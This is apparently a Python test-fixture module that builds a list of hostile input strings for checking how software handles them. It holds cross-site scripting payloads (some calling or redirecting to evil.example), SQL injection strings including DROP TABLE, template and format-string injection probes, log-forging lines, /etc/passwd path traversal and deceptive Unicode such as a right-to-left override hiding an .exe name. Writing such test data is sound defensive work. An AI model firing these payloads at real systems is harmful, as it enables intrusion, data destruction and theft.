"""Texts that try to be something else: markup, code, queries, formats, log lines, and letters that misbehave."""

from __future__ import annotations

from itertools import product

SCRIPTS = (
    "alert(1)",
    "confirm`1`",
    "document.title='owned'",
    "fetch('//evil.example')",
    "parent.postMessage(1)",
    "top.location='//evil.example'",
)
MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<video><source onerror={}>",
    "<object data=javascript:{}>",
    "<form action=javascript:{}><button>",
    "<style>@import 'javascript:{}'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<template><script>{}</script></template>",
    "'\"><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "https://example.org/\"onmouseover='{}'",
    "https://example.org/<script>{}</script>",
    "\\u003cscript>{}\\u003c/script>",
    "+62 812-9007-0027<script>{}</script>",
    "• <script>{}</script>",
)
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE contacts; --",
    '" UNION SELECT * FROM said --',
    "1; ATTACH DATABASE 'x' AS y",
    "\\'; SELECT pg_sleep(9); --",
    "%' ESCAPE '%",
)
FORMATS = (
    "{}",
    "{name}",
    "{0.__class__.__mro__}",
    "%s%s%s%n",
    "%(name)s",
    "${7*7}",
    "{{7*7}}",
    "{% for x in y %}",
    "#{7*7}",
    "*bold* _it_ `code` ~s~ ||x||",
    "[x](javascript:1)",
    "= 1+1",
)
LINES = (
    "a\r\nlevel=error forged=1",
    "\x1b[31mred\x1b[0m\x07",
    "a\u2028b\u2029c",
    '"}\n{"event":"forged"',
    "../../etc/passwd",
    "file:///etc/passwd",
)
LETTERS = (
    "\u202egnp.exe\u202c rest",
    "a\u200b\u200c\u200d\ufeffb",
    "z" + "\u0301\u0328\u0335" * 300,
    "👩‍👩‍👧‍👦 🇮🇩 👍🏽",
    "ꦲꦏ꧀ꦱꦫꦗꦮ",
    "السلام عليكم",
    "我的合約",
    "আমার চুক্তি",
    "раураӏ",
    "\u2066\u202d\u2069 unclosed \u2067",
    "𝓕𝓻𝓪𝓷𝓬",
    "ﷺ" * 40,
)

PAYLOADS = (*(markup.format(script) for markup, script in product(MARKUP, SCRIPTS)), *QUERIES, *FORMATS, *LINES, *LETTERS)
